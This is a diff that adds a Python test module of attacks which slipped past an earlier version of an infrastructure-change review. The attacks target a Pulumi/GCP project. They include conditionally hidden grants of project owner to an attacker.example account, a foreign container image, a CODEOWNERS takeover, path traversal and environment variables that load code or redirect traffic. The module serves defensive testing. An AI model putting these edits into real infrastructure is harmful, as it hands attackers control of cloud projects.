@@ -1,0 +1,111 @@
+"""Attacks that got past an earlier version of the review, found by trying to hide changes from it."""
+
+from typing import Final
+
+from attacks.attack import Attack, Edit, append, together, write
+from attacks.jobs import IMAGE, SPEC, spec, variables
+from repositories import Repository
+
+_MAIN: Final = "stacks/__main__.py"
+_GRANT: Final = """
+import pulumi_gcp as gcp
+
+def grant():
+    gcp.projects.IAMMember("x", project="my-project-prod", role="roles/owner", member="user:eve@attacker.example")
+
+"""
+
+
+def _second_spec(*replaced: tuple[str, str]) -> Edit:
+    """Add another spec that equals the first one but for some texts."""
+
+    def apply(repository: Repository) -> None:
+        text = (repository.folder / SPEC).read_text()
+        for old, new in replaced:
+            text = text.replace(old, new)
+        write("second/tpucfg.yaml", text)(repository)
+
+    return apply
+
+
+def _second_project(repository: Repository) -> None:
+    text = (repository.folder / "Pulumi.yaml").read_text()
+    write("second/Pulumi.yaml", text.replace("main: stacks", "main: ../stacks"))(repository)
+
+
+def _attack(id: str, change: Edit, *cautions: str, status: int = 0, base: Edit | None = None) -> Attack:
+    return Attack(id, change, cautions, status=status, base=base)
+
+
+ATTACKS: Final = (
+    _attack(
+        "second-spec-with-a-strangers-image-on-the-same-bucket",
+        _second_spec((IMAGE, "attacker.example/train/mnist:1.0")),
+        "new: jobs run `attacker.example/train/mnist:1.0` in the project `my-project-prod` "
+        "with the bucket `my-project-prod-mnist-prod-us-central1`",
+    ),
+    _attack(
+        "second-project-on-the-stacks-of-the-first",
+        together(_second_spec(), _second_project),
+        "`second/Pulumi.yaml` has the project name `mnist`, as `Pulumi.yaml` has: their stacks are the same",
+        status=3,
+    ),
+    _attack(
+        "owners-of-the-workflow-changed",
+        write(".github/CODEOWNERS", "* @attacker\n"),
+        "`.github/CODEOWNERS` changed: it decides who has to approve later changes",
+        base=write(".github/CODEOWNERS", "/.github/ @security\n"),
+    ),
+    Attack(
+        "secret-under-a-key-of-a-stack-file",
+        append("stacks/Pulumi.prod.yaml", "  mnist:apiToken: hunter2hunter2\n"),
+        ("config `mnist:apiToken` is `[secret]` instead of `none`",),
+        status=1,
+        absent=("hunter2",),
+    ),
+    _attack(
+        "address-that-climbs-out-of-the-own-bucket",
+        spec(("${job_dir}", "/gcs/my-project-prod-mnist-prod-us-central1/../attacker/out")),
+        "`/gcs/my-project-prod-mnist-prod-us-central1/../attacker/out` leads out of its folder",
+    ),
+    _attack(
+        "variables-that-load-code-or-redirect-traffic",
+        variables(
+            BASH_ENV="/x/rc",
+            HF_ENDPOINT="attacker.example",
+            GOOGLE_APPLICATION_CREDENTIALS="/x",
+            TPU_LIBRARY_PATH="/x",
+        ),
+        "`BASH_ENV` added (`/x/rc`): the program can load other code",
+        "`HF_ENDPOINT` added (`attacker.example`): the program's traffic takes another way",
+        "`GOOGLE_APPLICATION_CREDENTIALS` added (`/x`): the program acts as another account",
+        "`TPU_LIBRARY_PATH` added (`/x`): the program can load other code",
+    ),
+    _attack(
+        "module-that-replaces-another-where-case-is-ignored",
+        write("stacks/Access.py", "print('instead of access.py')\n"),
+        "`stacks/Access.py` and `stacks/access.py` are one name where case is ignored",
+        status=3,
+    ),
+    _attack(
+        "folder-that-merges-into-the-program-where-case-is-ignored",
+        write("Stacks/json.py", "print('beside __main__.py')\n"),
+        "`Stacks` and `stacks` are one name where case is ignored",
+        status=3,
+    ),
+    _attack(
+        "grant-behind-a-value-that-only-an-update-knows",
+        append(_MAIN, f"{_GRANT}environment.tpu_agent.apply(lambda name: grant() if '[' not in name else None)\n"),
+        "the stack program decides by values that only an update knows: `apply (stacks/__main__.py:",
+    ),
+    _attack(
+        "environment-by-another-way",
+        append(_MAIN, f"{_GRANT}import os\nif getattr(os, 'environ').get('PULUMI_HOME'):\n    grant()\n"),
+        "the stack program runs code that this review does not read: `os (stacks/__main__.py:",
+    ),
+    _attack(
+        "threads-counted",
+        append(_MAIN, f"{_GRANT}import threading\nif threading.active_count() > 30:\n    grant()\n"),
+        "imports modules that can do more than declare resources: `threading (stacks/__main__.py:",
+    ),
+)
